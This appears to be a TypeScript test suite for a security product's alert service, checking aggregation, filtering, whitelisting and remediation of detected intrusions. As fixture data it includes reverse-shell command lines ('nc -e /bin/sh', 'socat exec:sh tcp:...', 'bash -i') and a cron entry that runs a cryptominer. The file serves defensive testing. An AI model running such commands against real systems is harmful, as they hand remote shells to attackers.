/**
 * Alert aggregation, filters, lifecycle and whitelist rules through the real server (both store
 * dialects) and the real pop-core client. Events enter through the alert service the agent hub
 * feeds; the live agent path is covered by alerts-live.test.ts.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { popClient } from '../helpers/sdk.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

interface SuspEvent {
  Id: number;
  Uuid: string;
  Level: string;
  EventStatus: number;
  Count: number;
  OccurrenceTimeStamp: number;
  LastTimeStamp: number;
  OperateErrorCode: string;
  OperateMsg: string;
  MarkMisRules: string;
  Name: string;
}

const HOST_A = '11111111-1111-4111-8111-111111111111';
const HOST_B = '22222222-2222-4222-8222-222222222222';

function event(cmd: string, peerPort: number, level = 'serious', ruleId = 'revshell.stdio-socket') {
  return {
    ruleId,
    name: 'Reverse shell: shell stdio on a network socket',
    level,
    aggKey: `/usr/bin/bash|10.0.0.9:${peerPort}`,
    details: {
      pid: 4242,
      startTime: 99,
      exe: '/usr/bin/bash',
      cmdline: cmd.split(' '),
      processChain: [{ pid: 4242, comm: 'bash', cmdline: cmd.split(' ') }],
      peer: { proto: 'tcp', remoteAddress: '10.0.0.9', remotePort: peerPort, localPort: 50000 },
    },
  };
}

describe.each(['sqlite', 'postgres'] as const)('alerts on %s', (dialect) => {
  let t: TestServer;
  let sas: ReturnType<typeof popClient>;
  const list = async (params: Record<string, unknown> = {}) =>
    (await sas.request('DescribeSuspEvents', { CurrentPage: '1', PageSize: '50', ...params }, { method: 'POST' })) as { SuspEvents: SuspEvent[]; TotalCount: number; Count: number; PageSize: number };
  const handle = async (ids: number[], code: string, extra: Record<string, unknown> = {}) =>
    (await sas.request('HandleSecurityEvents', { OperationCode: code, SecurityEventIds: ids.map(String), ...extra }, { method: 'POST' })) as { HandleSecurityEventsResponse: { TaskId: number } };

  beforeAll(async () => {
    t = await startTestServer({ dialect });
    sas = popClient(t.url, t.rootKey.id, t.rootKey.secret);
  });
  afterAll(async () => t?.close());

  it('aggregates by host, rule and key with count and first/last time; drops malformed events', async () => {
    const alerts = t.server.services.alerts;
    const a1 = await alerts.ingest(t.accountId, HOST_A, event('bash -i', 4444), 1_000);
    const a2 = await alerts.ingest(t.accountId, HOST_A, event('bash -i', 4444), 5_000);
    const a3 = await alerts.ingest(t.accountId, HOST_A, event('bash -i', 4445, 'suspicious'), 2_000);
    const b1 = await alerts.ingest(t.accountId, HOST_B, event('bash -i', 4444), 3_000);
    expect(a1).not.toBeNull();
    expect(a2).toBe(a1);
    expect(new Set([a1, a3, b1]).size).toBe(3);
    expect(await alerts.ingest(t.accountId, HOST_A, { ruleId: 'x', level: 'fatal', name: 'n', aggKey: 'k', details: {} })).toBeNull();
    expect(await alerts.ingest(t.accountId, HOST_A, 'not an event')).toBeNull();

    const all = await list();
    expect(all.TotalCount).toBe(3);
    const first = all.SuspEvents.find((e) => e.Id === a1);
    expect(first).toMatchObject({ Count: 2, OccurrenceTimeStamp: 1_000, LastTimeStamp: 5_000, EventStatus: 1, Level: 'serious', Uuid: HOST_A });
    expect((await list({ Levels: 'suspicious' })).SuspEvents.map((e) => e.Id)).toEqual([a3]);
    expect((await list({ Uuids: HOST_B })).SuspEvents.map((e) => e.Id)).toEqual([b1]);
    const page = await list({ PageSize: '2', CurrentPage: '2' });
    expect(page.TotalCount).toBe(3);
    expect(page.Count).toBe(1);
    await expect(sas.request('DescribeSuspEvents', { Levels: 'fatal' }, { method: 'POST' })).rejects.toThrow(/Levels/);
  });

  it('ignore and manual_handled move the status; Dealed and Status filter by it', async () => {
    const [a, b] = (await list({ Uuids: HOST_A })).SuspEvents;
    if (!a || !b) throw new Error('expected two alerts on host A');
    await handle([a.Id], 'ignore');
    await handle([b.Id], 'manual_handled');
    expect((await list({ Status: '2' })).SuspEvents.map((e) => e.Id)).toEqual([a.Id]);
    expect((await list({ Status: '32' })).SuspEvents.map((e) => e.Id)).toEqual([b.Id]);
    expect((await list({ Dealed: 'N' })).SuspEvents.every((e) => e.Uuid === HOST_B)).toBe(true);
    expect((await list({ Dealed: 'Y' })).TotalCount).toBe(2);
    // A handled alert that recurs is open again.
    await t.server.services.alerts.ingest(t.accountId, HOST_A, event('bash -i', 4444, 'serious'), 6_000);
    await t.server.services.alerts.ingest(t.accountId, HOST_A, event('bash -i', 4445, 'suspicious'), 6_000);
    const after = await list({ Uuids: HOST_A });
    expect(after.SuspEvents.find((e) => e.Id === a.Id)?.EventStatus).toBe(2);
    expect(after.SuspEvents.find((e) => e.Id === b.Id)?.EventStatus).toBe(1);
  });

  it('advance_mark_mis_info whitelists: the event and matching current alerts become false positives, matching future events are dropped', async () => {
    const alerts = t.server.services.alerts;
    const nc1 = await alerts.ingest(t.accountId, HOST_A, event('nc -e /bin/sh 10.0.0.9 7001', 7001), 7_000);
    const nc2 = await alerts.ingest(t.accountId, HOST_B, event('nc -e /bin/sh 10.0.0.9 7002', 7002), 7_000);
    const other = await alerts.ingest(t.accountId, HOST_B, event('python3 -c x', 7003), 7_000);
    if (nc1 === null || nc2 === null || other === null) throw new Error('ingest failed');
    await expect(handle([nc1], 'advance_mark_mis_info', { MarkMissParam: JSON.stringify([{ field: 'cmdline', operate: 'regex', fieldValue: '(', uuid: 'ALL' }]) })).rejects.toThrow(/regex/);
    await handle([nc1], 'advance_mark_mis_info', { MarkMissParam: JSON.stringify([{ field: 'cmdline', operate: 'contains', fieldValue: 'nc -e', uuid: 'ALL' }]) });
    const now = await list();
    const by = new Map(now.SuspEvents.map((e) => [e.Id, e]));
    expect(by.get(nc1)?.EventStatus).toBe(8);
    expect(by.get(nc1)?.MarkMisRules).toContain('cmdline contains nc -e');
    expect(by.get(nc2)?.EventStatus).toBe(8);
    expect(by.get(other)?.EventStatus).toBe(1);
    expect(await alerts.ingest(t.accountId, HOST_A, event('nc -e /bin/sh 10.0.0.9 7999', 7999), 8_000)).toBeNull();
    expect(await alerts.ingest(t.accountId, HOST_A, event('socat exec:sh tcp:10.0.0.9:7998', 7998), 8_000)).not.toBeNull();

    const rules = (await sas.request('DescribeSecurityEventMarkMissList', { CurrentPage: 1, PageSize: 20 }, { method: 'POST' })) as {
      List: Array<{ Id: number; EventName: string; Field: string; Operate: string; FieldValue: string; Uuids: string }>;
      PageInfo: { TotalCount: number };
    };
    expect(rules.PageInfo.TotalCount).toBe(1);
    expect(rules.List[0]).toMatchObject({ EventName: 'revshell.stdio-socket', Field: 'cmdline', Operate: 'contains', FieldValue: 'nc -e', Uuids: 'ALL' });
    await sas.request('DeleteSecurityEventMarkMissList', { Ids: [rules.List[0]?.Id] }, { method: 'POST' });
    expect(await alerts.ingest(t.accountId, HOST_A, event('nc -e /bin/sh 10.0.0.9 7999', 7999), 8_500)).not.toBeNull();
  });

  it('MarkBatch applies to every pending alert of the rule; agent operations that fail leave the alert open with the reason', async () => {
    const alerts = t.server.services.alerts;
    const m1 = await alerts.ingest(t.accountId, HOST_A, event('xmrig', 3333, 'serious', 'mining.process-name'), 9_000);
    const m2 = await alerts.ingest(t.accountId, HOST_B, event('xmrig', 3334, 'serious', 'mining.process-name'), 9_000);
    if (m1 === null || m2 === null) throw new Error('ingest failed');
    await handle([m1], 'ignore', { MarkBatch: 'true' });
    const mined = (await list({ Status: '2' })).SuspEvents.map((e) => e.Id);
    expect(mined).toEqual(expect.arrayContaining([m1, m2]));

    const open = (await list({ Status: '1' })).SuspEvents[0];
    if (!open) throw new Error('expected an open alert');
    const task = (await handle([open.Id], 'kill_process')).HandleSecurityEventsResponse.TaskId;
    await alerts.idle();
    const st = (await sas.request('DescribeSecurityEventOperationStatus', { TaskId: task, SecurityEventIds: [String(open.Id)] }, { method: 'POST' })) as {
      SecurityEventOperationStatusResponse: { TaskStatus: string; SecurityEventOperationStatuses: Array<{ SecurityEventId: number; Status: string; ErrorCode: string }> };
    };
    expect(st.SecurityEventOperationStatusResponse.TaskStatus).toBe('Failure');
    expect(st.SecurityEventOperationStatusResponse.SecurityEventOperationStatuses[0]).toMatchObject({ SecurityEventId: open.Id, Status: 'Failure', ErrorCode: 'InvalidUuid' });
    const failed = (await list({ Id: open.Id })).SuspEvents[0];
    expect(failed?.EventStatus).toBe(1);
    expect(failed?.OperateMsg).toContain('kill_process failed');
    // An operation whose server died mid-way (still "handling" long after the task timeout) is shown as interrupted.
    await t.server.services.store.db.updateTable('alerts').set({ status: 16, operate_time: Date.now() - 3_600_000, operate_error_code: '' }).where('id', '=', open.Id).execute();
    const stale = (await list({ Id: open.Id })).SuspEvents[0];
    expect(stale).toMatchObject({ EventStatus: 1, OperateErrorCode: 'Interrupted' });
    await expect(handle([open.Id], 'format_disk')).rejects.toThrow(/OperationCode/);
    await expect(handle([987654], 'ignore')).rejects.toThrow(/SecurityEventIds/);
  });

  it('offers clean_persistence only for alerts that list persistence, and reports its failure on the alert', async () => {
    const alerts = t.server.services.alerts;
    const miner = {
      ruleId: 'mining.pool-connection',
      name: 'Mining program',
      level: 'serious',
      aggKey: '/tmp/.x/kworkerds',
      details: {
        pid: 5151,
        exe: '/tmp/.x/kworkerds',
        persistence: {
          findings: [{ kind: 'cron', path: '/etc/cron.d/kworkerds', lineNo: 1, line: '* * * * * root /tmp/.x/kworkerds', reason: 'runs the miner', level: 'serious', detail: '' }],
          plan: [{ action: 'delete-file', path: '/etc/cron.d/kworkerds' }],
        },
      },
    };
    const m = (await alerts.ingest(t.accountId, HOST_B, miner, 9_000)) as number;
    const shell = (await alerts.ingest(t.accountId, HOST_B, event('sh -i', 4999), 9_000)) as number;
    expect(typeof m).toBe('number');
    const view = (await list({ Uuids: HOST_B })).SuspEvents as Array<SuspEvent & { SupportOperateCode: string }>;
    expect(view.find((e) => e.Id === m)?.SupportOperateCode.split(',')).toContain('clean_persistence');
    expect(view.find((e) => e.Id === shell)?.SupportOperateCode.split(',')).not.toContain('clean_persistence');

    // No agent is connected for this synthetic host: the task cannot be sent, the alert says why.
    await handle([m], 'clean_persistence');
    await t.server.services.alerts.idle();
    const after = (await list({ Uuids: HOST_B })).SuspEvents.find((e) => e.Id === m);
    expect(after).toMatchObject({ EventStatus: 1 });
    expect(after?.OperateMsg).toMatch(/clean_persistence failed: .*(agent|Agent)/);
    // An alert without persistence is refused with its reason.
    await handle([shell], 'clean_persistence');
    await t.server.services.alerts.idle();
    expect((await list({ Uuids: HOST_B })).SuspEvents.find((e) => e.Id === shell)?.OperateMsg).toMatch(/no persistence/);
  });
});
